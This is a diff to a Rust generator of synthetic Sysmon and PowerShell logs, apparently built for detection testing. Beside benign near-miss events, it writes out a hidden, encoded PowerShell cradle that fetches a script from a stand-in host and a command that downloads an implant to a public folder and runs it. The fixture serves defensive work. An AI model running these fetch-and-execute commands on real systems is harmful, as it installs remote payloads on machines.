@@ -13,7 +13,7 @@ const STAGER: &str = "198.51.100.23";
 const SERVER: &str = "198.51.100.77";
 const STAGER_NAME: &str = "cdn.invoice-portal.example";
 const IMPLANT: &str = "C:\\Users\\Public\\Libraries\\wsync.exe";
-const CRADLE: &str = "IEX (New-Object Net.WebClient).DownloadString('https://cdn.invoice-portal.example/s')";
+const CRADLE: &str = "iex (irm https://cdn.invoice-portal.example/s)";
 
 pub const MARA: User = User {
     domain: "CORP",
@@ -177,6 +177,7 @@ fn near_misses(sysmon: &mut Sysmon, powershell: &mut Log, desk: &Desk) {
         let command = format!("\"{shell}\" -NonInteractive -EncodedCommand {}", utf16_base64(script));
         let process = sysmon.start(at(clock), &desk.agent, shell, &command);
         powershell.script_block(at(clock) + ms(900), &process, script, "");
+        powershell.command(at(clock) + ms(1_200), &process, "ConvertTo-Json", &[]);
         sysmon.end(at(clock) + ms(2_400), &process);
     }
     // The agent fetches a report to a file and runs nothing.
@@ -184,6 +185,9 @@ fn near_misses(sysmon: &mut Sysmon, powershell: &mut Log, desk: &Desk) {
     let fetch = "Invoke-WebRequest -Uri https://fleet.corp.example/baseline.json -OutFile $env:TEMP\\baseline.json";
     let path = "C:\\Program Files\\Fleet Agent\\scripts\\inventory.ps1";
     powershell.script_block(at("07:40:06.120"), &process, fetch, path);
+    let baseline = ("Uri", "https://fleet.corp.example/baseline.json");
+    powershell.command(at("07:40:06.440"), &process, "Invoke-WebRequest", &[baseline]);
+    powershell.command(at("07:40:07.015"), &process, "ConvertFrom-Json", &[]);
     sysmon.connect(at("07:40:06.480"), &process, "192.0.2.5", 443);
     // OneDrive's own updater enters itself into Run.
     let drive = "C:\\Users\\mara.lind\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe";
@@ -227,6 +231,15 @@ fn delivery(sysmon: &mut Sysmon, powershell: &mut Log, desk: &Desk) -> Process {
     let command = format!("\"{shell}\" -NoP -W Hidden -Enc {}", utf16_base64(CRADLE));
     let stager = sysmon.start(at("08:41:58.377"), &page, shell, &command);
     powershell.script_block(at("08:41:59.820"), &stager, CRADLE, "");
+    powershell.command(
+        at("08:42:03.911"),
+        &stager,
+        "Invoke-RestMethod",
+        &[("Uri", "https://cdn.invoice-portal.example/s")],
+    );
+    let fetched = format!("$p='{IMPLANT}'; irm https://cdn.invoice-portal.example/w -OutFile $p; & $p");
+    powershell.command(at("08:42:03.940"), &stager, "Invoke-Expression", &[("Command", &fetched)]);
+    powershell.script_block(at("08:42:03.952"), &stager, &fetched, "");
     sysmon.query(at("08:42:02.640"), &stager, STAGER_NAME, STAGER);
     sysmon.connect(at("08:42:02.702"), &stager, STAGER, 443);
     sysmon.end(at("08:42:05.000"), &page);
